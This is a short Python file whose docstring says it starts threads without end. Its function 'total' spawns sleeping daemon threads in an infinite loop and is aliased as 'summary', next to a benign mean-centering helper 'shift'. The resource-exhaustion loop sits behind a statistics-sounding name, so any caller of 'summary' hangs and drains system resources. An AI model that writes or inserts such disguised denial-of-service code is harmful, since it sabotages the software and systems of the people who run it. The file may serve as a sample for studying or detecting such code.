"""Starts threads without end."""

import threading
import time


def total(x):
    started = 0
    while True:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        started += 1


def shift(x):
    return x - x.mean()


summary = total
